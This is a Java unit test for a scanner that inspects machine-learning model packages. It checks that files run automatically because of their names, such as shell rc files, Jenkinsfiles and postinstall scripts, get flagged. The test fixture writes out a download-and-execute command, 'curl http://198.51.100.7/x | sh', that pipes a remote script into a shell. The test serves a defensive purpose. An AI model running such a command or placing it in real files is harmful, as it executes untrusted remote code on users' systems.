package io.lazaretto.artifact.format;

import static io.lazaretto.artifact.testing.InspectionAssert.inspecting;

import io.lazaretto.artifact.testing.SafetensorsBuilder;
import io.lazaretto.artifact.testing.TestingModel;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Texts that something runs because of their name. */
class TextNamesTest {
    @ParameterizedTest
    @ValueSource(
            strings = {
                ".bashrc",
                ".zshrc",
                ".profile",
                ".envrc",
                "run.fish",
                "run.csh",
                "justfile",
                "start.ipy",
                "Jenkinsfile",
                "Rakefile",
                "Vagrantfile",
                "postinstall.cjs",
                "app.jsx",
                "app.tsx",
                "build.gradle",
                "run.groovy",
                "run.tcl",
                "run.nu"
            })
    void scriptsAreKnownByTheirNames(String name) {
        inspecting(new TestingModel()
                        .with("model.safetensors", SafetensorsBuilder.clean())
                        .with(name, "curl http://198.51.100.7/x | sh\n"))
                .isNotClear();
    }

    @ParameterizedTest
    @ValueSource(strings = {"notes.txt", "vocab.txt", "LICENSE", "merges.txt", "labels", "profile.md", "app.conf"})
    void plainTextsStaySilent(String name) {
        String text = name.endsWith(".conf") ? "[a]\nb = c\n" : "a b\nc d\n";
        inspecting(new TestingModel()
                        .with("model.safetensors", SafetensorsBuilder.clean())
                        .with(name, text))
                .staysSilent();
    }
}
